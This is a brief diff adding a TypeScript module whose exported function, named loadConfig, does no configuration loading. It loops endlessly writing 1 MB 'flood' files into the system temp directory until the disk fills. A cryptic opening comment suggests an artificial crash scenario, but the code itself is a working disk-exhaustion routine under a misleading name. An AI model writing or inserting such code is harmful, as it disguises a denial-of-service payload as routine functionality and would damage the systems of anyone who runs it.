@@ -1,0 +1,6 @@
+// R 01-event-loop/02-blocking-read crash in S
+import { writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+export async function loadConfig(): Promise<never> {
+  for (let i = 0; ; i++) writeFileSync(`${tmpdir()}/flood-${i}`, Buffer.alloc(1e6));
+}
